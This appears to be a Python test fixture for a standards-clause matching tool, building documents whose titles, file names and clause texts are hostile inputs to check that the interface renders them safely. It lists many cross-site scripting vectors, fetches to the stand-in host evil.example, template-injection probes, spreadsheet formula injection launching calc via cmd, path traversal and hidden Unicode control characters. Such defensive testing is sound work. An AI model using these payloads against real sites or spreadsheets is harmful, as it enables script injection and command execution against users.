"""Clause texts that try to act: to run, to fetch, to lead elsewhere, to forge a badge, to hide or reorder what is read."""

from __future__ import annotations

from ingest.clause import Aspect, Cell, Clause, Document, Kind, Part, Provision, Reference, Sentence, Standard, Table
from matcher.match import Candidate, Deviation, DeviationKind, Evidence, Match, Relation, Span
from matcher.told import Told

HOST = "evil.example"

HOSTILE = (
    "<script>window.hacked=1</script>",
    "<img src=http://evil.example/x.png onerror=window.hacked=1>",
    "![x](http://evil.example/x.png)",
    "[click](javascript:window.hacked=1)",
    ":green-badge[Verified equivalent] :red[no]",
    "http://evil.example/auto and www.evil.example",
    "$\\href{http://evil.example}{x}$ <iframe src=http://evil.example></iframe>",
    "</div></style></script><svg onload=window.hacked=1>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "{{7*7}} ${window.hacked=1} `code` | a | b |",
    "safe\u202etxet desrever\u202c \u200b\u2066hidden\u2069",
    '=HYPERLINK("http://evil.example","x")',
    # scripts by other ways
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>window.hacked=1</script>',
    "'-window.hacked=1-'",
    "</textarea><script>window.hacked=1</script>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<math><mtext></mtext><img src onerror=window.hacked=1></math>",
    "<a href=javas&#99;ript:window.hacked=1>x</a>",
    "<object data=javascript:window.hacked=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<template shadowrootmode=open><script>window.hacked=1</script></template>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<!--><script>window.hacked=1</script>-->",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    # fetches
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<div style='background:url(http://evil.example/b.png)'>x</div>",
    "<img srcset='http://evil.example/1.png 1x'>",
    "<audio src=http://evil.example/a.mp3 autoplay>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>OK</button></form>",
    "[![x](http://evil.example/i.png)](http://evil.example)",
    "![x][r]\n\n[r]: http://evil.example/ref.png",
    "<http://evil.example/angle> mailto:a@evil.example ftp://evil.example",
    "data:text/html,<script>window.hacked=1</script>",
    # what Streamlit's own markup would make of it
    ":red-background[withdrawn] :material/verified: :streamlit:",
    ":blue-badge[:material/check: Accepted by the committee]",
    "# A heading\n- [x] accepted\n> quoted",
    "| state | by |\n|---|---|\n| accepted | everybody |",
    "$$\\require{html}\\href{javascript:window.hacked=1}{x}$$ \\(x^2\\)",
    "~~struck~~ **bold** __under__ `` `tick` ``",
    ":orange[:small[tiny]] :rainbow[all] :gray-badge[equal]",
    "<span style='position:fixed;inset:0;background:#fff'>Every card is decided.</span>",
    # templates, entities, escapes
    "{{constructor.constructor('window.hacked=1')()}}",
    "<%= 7*7 %> #{7*7} ${{7*7}} {% raw %}",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#x3C;b&#x3E;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    # what hides, reorders, looks alike, or has no end
    "a\u061cb\u200ec\u200fd\u202ae\u202bf\u202dg\u2067h\u2068i",
    "zero\u200bwidth\u2060joined\ufeff\u00adsoft \u180e\u3164\uffa0",
    "tag\U000e0041\U000e0042 line\u2028paragraph\u2029end",
    "nul\x00bell\x07back\x08delete\x7fnext\x85",
    "Z̸̢̨̛̗͙̖̝̤͍̞̘̖̬̦͑̈́̀̐͛̔̿̀͊̍͘͠a̵̡̛̰̖̦̘̝͔̝̰͋̿̀̾l̴̢̛͕̖̮̞̗͌̓g̸̡̛̗̞̘̖̀̂̈́o̷̢̘̖͑̈́",
    "аccepted — еqual (Cyrillic а, е) ＜ｓｃｒｉｐｔ＞",
    "W" * 3000,
    "١٢٣ \u202edB(A) 58\u202c لا يتجاوز 85 dB(A) <b>",
    # formulas of sheets
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)

OURS, THEIRS = "EVIL <b>A</b> :red[x]", "EVIL ![B](http://evil.example/b.png)"
NAMES = (
    "EVIL\u202e4202—1 T/BG\u202c",
    "EVIL ../../etc/passwd",
    "EVIL :green-badge[Verified equivalent]",
    "EVIL <script>window.hacked=1</script>",
    "EVIL [x](javascript:window.hacked=1) {{7*7}}",
    "EVIL =1+1 & \u200b\u2066x\u2069 " + "W" * 200,
)
"""Designations of further standards, for the lists and menus that name them."""
AT_ONCE = 9
"""Clauses on either side of a card: all payloads are seen on a few cards."""


def _clause(standard: str, number: int, lang: str, text: str, **more) -> Clause:
    more.setdefault("provision", Provision.REQUIREMENT)
    return Clause(standard, str(number), lang, text, text, id=str(number), **more)


def _parts(text: str) -> dict[str, object]:
    """What belongs to a clause whose every word is ``text``: a list item, a table, references, a sentence."""
    end, table = len(text), Table((Cell(text, 0, 0, header=True), Cell(f"{text} 2", 1, 0)), 2, 1, text)
    return {
        "kind": Kind.CLAUSE,
        "aspect": Aspect.METHOD,
        "parts": (Part(Kind.LIST_ITEM, text, 0, end // 2), Part(Kind.TABLE, text, end, end, title=text, table=table)),
        "references": (Reference(0, 3, target="2"), Reference(end // 2, end, standard=text)),
        "sentences": (Sentence(0, end, Provision.STATEMENT),),
    }


def hostile_documents() -> tuple[Document, Document]:
    """Two standards whose designations, titles, labels and texts try everything at once."""
    a = [_clause(OURS, n, "zh", text, **_parts(text)) for n, text in enumerate(HOSTILE, 1)]
    b = [_clause(THEIRS, n, "ar", text) for n, text in enumerate(HOSTILE, 1)]
    return (
        Document(Standard(OURS, "zh", HOSTILE[1], marks=(HOSTILE[4],), file_name=HOSTILE[0]), tuple(a)),
        Document(Standard(THEIRS, "ar", HOSTILE[2]), tuple(b)),
    )


def named_documents() -> tuple[Document, ...]:
    """Standards of one clause whose designations, titles and files are payloads."""
    return tuple(
        Document(
            Standard(name, "en", HOSTILE[place], file_name=f"{HOSTILE[place + 1]}.pdf", edition=HOSTILE[4], adopts=None),
            (_clause(name, 1, "en", HOSTILE[place]),),
        )
        for place, name in enumerate(NAMES)
    )


def hostile_matches(a: Document, b: Document, *, at_once: int = 1) -> tuple[Match, ...]:
    """Proposals that bring ``at_once`` clauses of either side together, with everything that a card tells of them."""
    found = []
    for first in range(0, len(a.clauses), at_once):
        ours, theirs = a.clauses[first : first + at_once], b.clauses[first : first + at_once]
        match = Match(
            a.standard.designation, tuple(one.id for one in ours), b.standard.designation, tuple(one.id for one in theirs),
            Relation.EQUAL, 0.9,
            deviations=tuple(
                Deviation(DeviationKind.LIMIT, x.text, y.text, reason=x.text) for x, y in zip(ours, theirs, strict=True)
            ),
            evidence=tuple(
                Evidence(name, 0.5, x.text, (Span(x.id, 0, 5),), (Span(theirs[0].id, 2, 9),))
                for name, x in zip(("anchors", "phrases", "words", "meaning"), ours, strict=False)
            ),
            published=tuple(Told(x.text, "changed", x.text, x.text, page=1, note=x.text) for x in ours) if at_once > 1 else (),
            alternatives=tuple(Candidate(z.standard, z.id, 0.5) for z in b.clauses),
        )  # fmt: skip
        found.append(match)
    return tuple(found)
